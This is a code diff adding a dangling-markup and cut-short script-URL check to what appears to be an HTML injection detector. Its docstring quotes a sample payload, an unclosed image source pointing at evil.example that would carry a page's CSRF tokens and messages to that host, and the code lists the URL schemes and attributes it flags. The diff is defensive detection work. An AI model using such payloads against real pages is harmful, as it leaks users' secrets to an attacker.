@@ -298,6 +298,8 @@ def _html(v: str, best: _Best, depth: int) -> None:
                 continue
             judged.add(attr.start)
             _tag_attribute(v, name, attr, best, depth)
+        if not tag.closed and tag.attrs and tag.attrs[-1].end >= len(v):
+            _left_open(v, name, tag.attrs[-1], best)
         raw_end = min(tag.end, tag.start + 512)
         if (best.v is None or best.v.severity < Severity.HIGH) and raw_end > raw_checked \
                 and raw_reads < _MAX_RAW_READS:
@@ -594,6 +596,38 @@ def _tag_attribute(v: str, tag: str, attr: HtmlAttr, best: _Best, depth: int) ->
         js = read_js(tokenize_js(decode_entities(value[:256]), 0, 48))
         if js.sink and _strong(js.sink) and js.sink_index <= 2 and js.valid_until > js.sink_index + 2:
             best.add(Severity.HIGH, "attribute-code", attr.start, attr.end, f"<{tag} {an}={js.sink}>")
+
+
+_DANGLING_SCHEMES = ("http://", "https://", "//", "\\\\", "ftp://")
+# URL attributes the browser fetches without a click (a link left open only leaks when followed,
+# and a cut-off comment with a link in it is ordinary)
+_LOADS_ON_ITS_OWN = frozenset({"src", "background", "poster", "lowsrc", "dynsrc", "data", "srcset"})
+
+
+def _left_open(v: str, tag: str, attr: HtmlAttr, best: _Best) -> None:
+    """The value ends inside a quoted URL attribute it opened.
+
+    `<img src="//evil.example/?` (dangling markup): the page's own text, up to its next
+    quote (CSRF tokens, e-mail addresses, messages), becomes part of the URL and goes to
+    that host, no script needed. `<img src='javasc` is a script URL cut short by a length
+    limit. An editor or a form never sends a tag with its attribute value left open."""
+    if not attr.has_value or attr.name not in _LINK_ATTRIBUTES:
+        return
+    eq = v.find("=", attr.start, attr.end)
+    k = eq + 1
+    while 0 < k < len(v) and v[k] in " \t\r\n":
+        k += 1
+    quote = v[k:k + 1]
+    if eq < 0 or quote not in ("'", '"') or quote in v[k + 1:]:
+        return
+    url = decode_entities(v[k + 1:k + 1 + 256]).strip().lower()
+    if url.startswith(_DANGLING_SCHEMES) and len(url) > 4 and attr.name in _LOADS_ON_ITS_OWN:
+        best.add(Severity.HIGH, "dangling-markup", attr.start, attr.end,
+                 f"<{tag} {attr.name}={quote}{url[:24]}... left open: the page's text goes to that host")
+        return
+    flat = url.translate(_SCHEME_STRIP)
+    if len(flat) >= 4 and any(s.startswith(flat) for s in ("javascript:", "vbscript:")):
+        best.add(Severity.HIGH, "script-url", attr.start, attr.end, f"<{tag} {attr.name}={quote}{flat}> (cut short)")
 
 
 def _scheme_without_colon(value: str) -> str:
